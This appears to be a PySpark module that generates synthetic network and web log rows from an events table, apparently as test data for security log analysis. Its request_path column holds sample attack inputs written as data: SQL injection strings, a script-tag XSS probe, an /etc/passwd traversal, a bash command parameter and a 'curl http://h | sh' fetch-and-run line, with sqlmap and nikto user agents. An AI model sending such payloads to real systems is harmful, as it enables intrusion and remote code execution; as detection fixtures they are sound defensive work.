"""The log record derived from the events table, as a static or a streaming frame."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

# Fixed values of the test data: its first instant, and the record as expressions over an event. The
# expressions are SQL text, which the session parses in one step per column.
START_MICROS = 1_704_067_200_000_000
COUNTER = "TRY_CAST(regexp_extract(props, '([0-9]+)', 1) AS INT)"
RECORD = {
    "source_ip": """
        CASE WHEN event_id % 97 = 0 THEN NULL
             WHEN user_id % 3 = 0 THEN '10.0.0.1'
             ELSE concat('10.0.0.', CAST(2 + user_id % 8 AS STRING)) END""",
    "dest_ip": """
        concat('192.168.0.', CAST(user_id % 5 AS STRING),
               CASE WHEN event_id % 2 = 0 THEN concat(':', CAST(20 + k % 60 AS STRING)) ELSE '' END)""",
    "protocol": "CASE event_id % 3 WHEN 0 THEN 'HTTP' WHEN 1 THEN 'TCP' ELSE 'SSH' END",
    "action": "CASE WHEN event_type = 'error' THEN 'blocked' ELSE 'allowed' END",
    "threat_label": """
        CASE WHEN k = 0 THEN NULL WHEN k < 60 THEN 'benign' WHEN k < 85 THEN 'suspicious'
             ELSE 'malicious' END""",
    "log_type": "CASE event_id % 3 WHEN 0 THEN 'application' WHEN 1 THEN 'firewall' ELSE 'ids' END",
    "bytes_transferred": "CAST(round(value * 100) AS BIGINT) * 1000",
    "user_agent": """
        CASE event_id % 11 WHEN 0 THEN 'sqlmap/1.7' WHEN 1 THEN 'nikto/2.5' WHEN 2 THEN NULL
             ELSE 'Mozilla/5.0' END""",
    "request_path": """
        CASE event_id % 17
             WHEN 0 THEN concat('/item?id=', chr(39), ' OR 1=1--')
             WHEN 1 THEN '/item?id=1 UNION SELECT x FROM y'
             WHEN 2 THEN '/q?s=<script>alert(1)</script>'
             WHEN 3 THEN '/img?onerror=x'
             WHEN 4 THEN '/run?cmd=/bin/bash'
             WHEN 5 THEN '/../../etc/passwd'
             WHEN 6 THEN '/Admin/LOGIN.php'
             WHEN 7 THEN '/user/login'
             WHEN 8 THEN '/q?s=union select 1'
             WHEN 9 THEN NULL
             WHEN 10 THEN '/x?onload=f'
             WHEN 11 THEN '/sh?c=curl http://h | sh'
             ELSE '/index.html' END""",
}


def read_events(spark: SparkSession, folder: str) -> DataFrame:
    return spark.read.parquet(f"{folder}/events.parquet")


def stream_events(spark: SparkSession, folder: str, files_per_trigger: int | None = None) -> DataFrame:
    """The events table as a file stream.

    The path is a pattern because a stream refuses the plain path of a single file.
    """
    reader = spark.readStream.schema(read_events(spark, folder).schema)
    if files_per_trigger:
        reader = reader.option("maxFilesPerTrigger", files_per_trigger)
    return reader.parquet(f"{folder}/event[s].parquet")


def logs_view(events: DataFrame, time_div: int = 1) -> DataFrame:
    """Events as typed log rows; ``time_div`` runs the clock faster, so that windows fill up."""
    time = "CAST(ts AS TIMESTAMP)"
    if time_div != 1:
        run = f"(unix_micros({time}) - {START_MICROS}) div {time_div}"
        time = f"timestamp_micros({START_MICROS} + {run})"
    counted = events.selectExpr("*", f"{COUNTER} AS k")
    record = (f"{text} AS {name}" for name, text in RECORD.items())
    return counted.selectExpr("event_id", f"{time} AS event_time", *record)
